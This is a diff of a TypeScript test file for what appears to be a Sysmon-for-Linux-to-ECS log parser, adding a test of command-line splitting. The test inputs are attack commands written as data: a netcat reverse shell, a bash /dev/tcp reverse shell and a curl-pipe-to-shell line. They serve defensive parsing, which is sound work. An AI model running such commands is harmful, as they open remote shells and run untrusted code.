@@ -7,6 +7,7 @@
 import { normalizeLines } from '../normalize';
 import { parseSyslogHeader, parseSysmonLine } from './parse';
 import { splitCommandLine } from './ecs';
+import { splitArgs } from '../endpoint';
 import type { Doc } from '../field';
 
 const esc = (v: string) =>
@@ -224,6 +225,19 @@ describe('Sysmon for Linux → ECS (integration shape, per the sysmon_linux pipe
       opcode: 'Info',
       record_id: '24',
     });
+  });
+
+  it('splits joined Linux command lines for the endpoint shape, keeping a shell -c script whole', () => {
+    expect(splitArgs('nc -e /bin/sh 1.2.3.4 4444')).toEqual(['nc', '-e', '/bin/sh', '1.2.3.4', '4444']);
+    expect(splitArgs('sh -c -- bash -c "bash -i >& /dev/tcp/1.2.3.4/443 0>&1" &')).toEqual([
+      'sh',
+      '-c',
+      '--',
+      'bash -c "bash -i >& /dev/tcp/1.2.3.4/443 0>&1" &',
+    ]);
+    expect(splitArgs('/bin/bash -ec curl x | sh')).toEqual(['/bin/bash', '-ec', 'curl x | sh']);
+    expect(splitArgs('bash script.sh -c x')).toEqual(['bash', 'script.sh', '-c', 'x']);
+    expect(splitArgs('')).toBeUndefined();
   });
 
   it('splits command lines the way the pipeline does', () => {
